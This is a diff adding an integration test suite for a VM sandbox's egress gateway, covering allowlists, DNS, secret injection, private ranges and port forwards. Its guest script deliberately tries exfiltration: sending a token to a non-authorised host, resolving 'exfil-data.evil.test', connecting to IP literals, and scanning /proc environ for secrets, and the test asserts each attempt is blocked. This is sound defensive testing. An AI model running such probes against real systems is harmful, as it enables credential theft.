@@ -1,0 +1,271 @@
+"""The network boundary from inside real VMs: allowlist, our DNS, secrets, private ranges, cleanup.
+
+The guest is hostile code run through the public API. Every server is the test's own, on
+127.0.0.1 (names mapped with ``host_overrides``, or answered by a counting DNS server the test runs
+as the gateway's upstream); ``egress_allow_private`` is on where the server is on loopback.
+One networked session carries most asserts (each boot costs seconds under TCG).
+"""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import json
+import socket
+import time
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import pytest_asyncio
+
+from exec_sandbox import Secret
+from exec_sandbox.config import SchedulerConfig
+from exec_sandbox.errors import SandboxInputError
+from exec_sandbox.sandbox.scheduler import Scheduler
+from exec_sandbox.sandbox.session import Session
+from tests.integration.egress_support import (
+    SECRET_VALUE,
+    CountingDns,
+    LocalServer,
+    TestCA,
+    counting_dns,
+    local_server,
+)
+from tests.integration.test_scheduler_support import assert_no_vms, scheduler_for_tests
+
+pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="module"), pytest.mark.timeout(240)]
+
+ALLOWED = ["web.test", "api.test", "up.test"]
+
+
+@pytest.fixture(scope="module")
+def ca(tmp_path_factory: pytest.TempPathFactory) -> TestCA:
+    return TestCA(tmp_path_factory.mktemp("net-ca"), ["web.test", "api.test"])
+
+
+@pytest.fixture(scope="module")
+def plain() -> Any:
+    with local_server() as server:
+        yield server
+
+
+@pytest.fixture(scope="module")
+def tls(ca: TestCA) -> Any:
+    with local_server(ca.server_context()) as server:
+        yield server
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def upstream() -> tuple[CountingDns, int]:
+    return await counting_dns()
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def scheduler(ca: TestCA, upstream: tuple[CountingDns, int]) -> AsyncIterator[Scheduler]:
+    config = SchedulerConfig(
+        allowed_domains=ALLOWED,
+        # up.test has no override: the gateway asks the counting DNS server for it
+        host_overrides={"web.test": "127.0.0.1", "api.test": "127.0.0.1"},
+        egress_allow_private=True,
+        secrets={"TOKEN": Secret(value=SECRET_VALUE, hosts=["api.test"])},  # type: ignore[arg-type]
+        egress_dns_server=f"127.0.0.1:{upstream[1]}",
+        egress_ca_file=ca.ca_file,
+    )
+    async with scheduler_for_tests(config) as sched:
+        yield sched
+
+
+GUEST = r'''
+import json, os, socket, subprocess, time, urllib.request, urllib.error
+out = {}
+def timed(fn):
+    t = time.monotonic()
+    try:
+        return {"ok": fn(), "s": time.monotonic() - t}
+    except Exception as exc:
+        return {"error": f"{type(exc).__name__}: {exc}", "s": time.monotonic() - t}
+def get(url, headers=None):
+    req = urllib.request.Request(url, headers=headers or {})
+    with urllib.request.urlopen(req, timeout=20) as resp:
+        return resp.read().decode()
+P, T = PLAIN, TLS
+tok = os.environ["TOKEN"]
+out["token"] = tok
+out["http"] = timed(lambda: get(f"http://web.test:{P}/say/plain-ok"))
+out["https"] = timed(lambda: get(f"https://web.test:{T}/say/tls-ok"))
+out["secret"] = timed(lambda: get(f"https://api.test:{T}/say/sec", {"Authorization": "Bearer " + tok}))
+out["leak"] = timed(lambda: get(f"https://web.test:{T}/leak", {"Authorization": "Bearer " + tok}))
+out["upstream"] = timed(lambda: get(f"http://up.test:{P}/say/up-ok"))
+out["denied_name"] = timed(lambda: get(f"http://evil.test:{P}/x"))
+out["denied_dns"] = timed(lambda: socket.gethostbyname("exfil-data.evil.test"))
+out["ip_literal_proxy"] = timed(lambda: get(f"http://93.184.216.34:{P}/x"))
+out["ip_literal_raw"] = timed(lambda: socket.create_connection(("93.184.216.34", 80), timeout=10).close())
+out["dns_allowed"] = timed(lambda: socket.gethostbyname("web.test"))
+# the transparent path: a client that ignores the proxy settings still goes through the gateway
+def no_proxy():
+    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+    return opener.open(f"http://web.test/say/transparent", timeout=20).read().decode()
+out["transparent_http"] = timed(no_proxy)
+# slirp's own services must not answer: its DNS forwarder and the host alias
+def udp_dns(dst):
+    q = bytes.fromhex("abcd01000001000000000000") + b"\x05exfil\x04slrp\x04test\x00\x00\x01\x00\x01"
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1.5)
+    s.sendto(q, (dst, 53))
+    return s.recv(512).hex()
+out["slirp_dns_udp"] = timed(lambda: udp_dns("10.0.2.3"))
+out["slirp_host_udp"] = timed(lambda: udp_dns("10.0.2.2"))
+out["slirp_dns_tcp"] = timed(lambda: socket.create_connection(("10.0.2.3", 53), timeout=3).close())
+out["slirp_host_tcp"] = timed(lambda: socket.create_connection(("10.0.2.2", P), timeout=3).close())
+# Search for the real value by its hash (a sliding window): the guest never holds the value itself.
+import hashlib
+def holds(blob):
+    return any(hashlib.sha256(blob[i:i + SECRET_LEN]).hexdigest() == SECRET_SHA
+               for i in range(len(blob) - SECRET_LEN + 1))
+env_hits = []
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        try:
+            if holds(open(f"/proc/{pid}/environ", "rb").read()):
+                env_hits.append(pid)
+        except OSError:
+            pass
+out["env_hits"] = env_hits
+out["secret_in_env"] = any(holds(v.encode()) for v in os.environ.values())
+out["searched"] = holds(b"xx" + tok.encode() + b"yy") is False and SECRET_LEN > 8
+print(json.dumps(out))
+'''
+
+
+def _guest_code(plain: LocalServer, tls: LocalServer) -> str:
+    # The guest gets the secret's hash and length only, to search for it without holding it.
+    digest = hashlib.sha256(SECRET_VALUE.encode()).hexdigest()
+    return f"PLAIN, TLS, SECRET_SHA, SECRET_LEN = {plain.port}, {tls.port}, {digest!r}, {len(SECRET_VALUE)}\n" + GUEST
+
+
+async def test_egress_from_a_vm(scheduler: Scheduler, plain: LocalServer, tls: LocalServer,
+                                upstream: tuple[CountingDns, int], tmp_path: Path) -> None:
+    dns_server, _ = upstream
+    async with await scheduler.session() as session:
+        result = await session.exec(_guest_code(plain, tls), timeout_seconds=120)
+        assert result.exit_code == 0, result.stderr
+        out = json.loads(result.stdout.strip().splitlines()[-1])
+        # allowlisted names work over HTTP and HTTPS (end-to-end TLS, the test CA is trusted)
+        assert out["http"]["ok"] == "plain-ok" and out["https"]["ok"] == "tls-ok", out
+        assert out["upstream"]["ok"] == "up-ok", out
+        assert out["dns_allowed"]["ok"] == "10.0.2.100"  # every allowed name: the gateway
+        # a client ignoring the proxy lands on the gateway too (routed by Host; it dials port 80 of
+        # web.test = 127.0.0.1, where nothing listens: the gateway's answer, not a timeout)
+        assert "error" in out["transparent_http"] and out["transparent_http"]["s"] < 5, out
+        # the secret: a placeholder in the guest, the real value at its host only
+        assert out["token"].startswith("sbx-secret-") and SECRET_VALUE not in out["token"]
+        assert out["secret"]["ok"] == "sec", out
+        sec = [h for p, h in tls.seen if p == "/say/sec"]
+        assert sec and sec[-1]["authorization"] == f"Bearer {SECRET_VALUE}"
+        leak = [h for p, h in tls.seen if p == "/leak"]
+        assert leak and leak[-1]["authorization"] == f"Bearer {out['token']}"
+        assert all(SECRET_VALUE not in json.dumps(h) for p, h in tls.seen + plain.seen if p != "/say/sec")
+        assert out["env_hits"] == [] and out["secret_in_env"] is False and out["searched"] is True
+        # refusals: fast and clear, not hangs
+        assert "403" in out["denied_name"]["error"] and out["denied_name"]["s"] < 2, out
+        assert "gaierror" in out["denied_dns"]["error"] and out["denied_dns"]["s"] < 2, out
+        assert "403" in out["ip_literal_proxy"]["error"] and out["ip_literal_proxy"]["s"] < 2, out
+        assert "unreachable" in out["ip_literal_raw"]["error"] and out["ip_literal_raw"]["s"] < 2, out
+        # slirp's DNS forwarder and host alias are dead ends (restrict=on)
+        for key in ("slirp_dns_udp", "slirp_host_udp", "slirp_dns_tcp", "slirp_host_tcp"):
+            assert "error" in out[key], (key, out[key])
+        # DNS: the upstream saw the allowlisted name it had to resolve, never a refused one
+        assert "up.test" in dns_server.queries
+        assert not [q for q in dns_server.queries if "evil" in q or "exfil" in q or "slrp" in q]
+        # the egress log says what happened
+        log = session.egress_log
+        assert any(e.name == "evil.test" and not e.allowed and e.rule == "not_allowlisted" for e in log)
+        assert any(e.name == "api.test" and e.allowed and e.intercepted for e in log)
+        assert any(e.name == "web.test" and e.mode == "host" for e in log), log
+        stats = session.egress_stats
+        assert stats is not None and stats.refused_total >= 2 and stats.connections_total >= 6
+        # the secret is not in the guest's memory either (RAM + device state, saved to files)
+        snap = await session.vm.save_snapshot(tmp_path / "snap")
+        for item in snap.iterdir():
+            assert SECRET_VALUE.encode() not in item.read_bytes(), item.name
+        gateway = session._egress
+        assert gateway is not None and gateway.proxy_addresses is not None
+        proxy_port = gateway.proxy_addresses.forward[1]
+    # closed with the session: the gateway's listeners are gone
+    with pytest.raises(OSError):
+        socket.create_connection(("127.0.0.1", proxy_port), timeout=2).close()
+    await assert_no_vms(scheduler)
+
+
+async def test_port_forward_reaches_a_server_in_the_session(scheduler: Scheduler) -> None:
+    session: Session = await scheduler.session(port_forwards=[{"guest_port": 8123}], allowed_domains=[],
+                                               secrets={})
+    async with session:
+        (fwd,) = session.forwarded_ports
+        assert fwd.guest_port == 8123 and fwd.host_addr == "127.0.0.1" and fwd.host_port > 0
+        assert session.egress_stats is None  # forwards only: no gateway at all
+        started = await session.exec(
+            "import subprocess, sys\n"
+            "srv = subprocess.Popen([sys.executable, '-m', 'http.server', '8123', '--bind', '0.0.0.0'],"
+            " stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
+            "import socket, time\n"
+            "for _ in range(200):\n"
+            "    try:\n"
+            "        socket.create_connection(('127.0.0.1', 8123), timeout=1).close(); break\n"
+            "    except OSError: time.sleep(0.1)\n"
+            "open('hello.txt', 'w').write('served from the guest')\n"
+            "print('up')\n",
+            timeout_seconds=60,
+        )
+        assert started.stdout.strip() == "up", started.stderr
+
+        def fetch() -> bytes:
+            with socket.create_connection((fwd.host_addr, fwd.host_port), timeout=10) as sock:
+                sock.sendall(b"GET /hello.txt HTTP/1.0\r\nHost: x\r\n\r\n")
+                data = b""
+                while chunk := sock.recv(65536):
+                    data += chunk
+                return data
+
+        reply = await asyncio.to_thread(fetch)
+        assert reply.startswith(b"HTTP/1.0 200") and reply.endswith(b"served from the guest"), reply[:200]
+
+
+async def test_private_ranges_refused_unless_switched_on(plain: LocalServer) -> None:
+    config = SchedulerConfig(allowed_domains=["web.test"], host_overrides={"web.test": "127.0.0.1"})
+    async with scheduler_for_tests(config) as sched:
+        code = (
+            "import urllib.request, time\n"
+            "t = time.monotonic()\n"
+            "try:\n"
+            f"    urllib.request.urlopen('http://web.test:{plain.port}/x', timeout=20)\n"
+            "except Exception as exc:\n"
+            "    print(type(exc).__name__, exc, round(time.monotonic() - t, 2))\n"
+        )
+        before = len(plain.seen)
+        result = await sched.run(code, timeout_seconds=60)
+        assert "403" in result.stdout or "gaierror" in result.stdout, result.stdout + result.stderr
+        assert len(plain.seen) == before  # nothing reached the loopback server
+        assert result.egress_stats is not None
+        assert any(not e.allowed for e in result.egress_log) or "gaierror" in result.stdout
+
+
+@pytest.mark.parametrize(
+    ("kwargs", "field"),
+    [
+        ({"allowed_domains": ["bad..name"]}, "allowed_domains"),
+        ({"allowed_domains": ["10.1.2.3"]}, "allowed_domains"),
+        ({"port_forwards": [{"guest_port": 70000}]}, "port_forwards"),
+        ({"allowed_domains": ["a.test"], "secrets": {"K": {"value": "v", "hosts": []}}}, "secrets.K.hosts"),
+        ({"allowed_domains": ["a.test"], "secrets": {"K": {"value": "v", "hosts": ["b.test"]}}},
+         "secrets.K.hosts"),
+    ],
+)
+async def test_bad_network_config_is_refused_naming_the_field(kwargs: dict[str, Any], field: str) -> None:
+    started = time.monotonic()
+    scheduler = Scheduler(SchedulerConfig())  # not started: the arguments are checked first
+    with pytest.raises(SandboxInputError) as info:
+        await scheduler.session(**kwargs)
+    assert str(info.value.context["field"]).startswith(field), info.value.context
+    assert time.monotonic() - started < 5
